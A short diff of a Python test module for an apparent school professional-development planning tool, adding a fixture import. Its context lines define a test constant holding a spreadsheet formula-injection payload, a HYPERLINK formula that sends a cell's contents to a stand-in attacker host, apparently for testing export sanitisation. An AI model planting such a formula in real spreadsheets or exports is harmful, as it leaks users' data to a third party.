@@ -24,6 +24,7 @@ from pdplanner.cli import DEFAULT_CATALOGUE
 from pdplanner.planning.services import import_catalogue, read_catalogue, run_plan
 from tests.factories import create_district, create_school, create_user
 from tests.helpers import load_default_framework
+from tests.planning.conftest import planned  # noqa: F401  (the planning tests' small planned school)
 
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/steal?x="&A1, "click")'
 
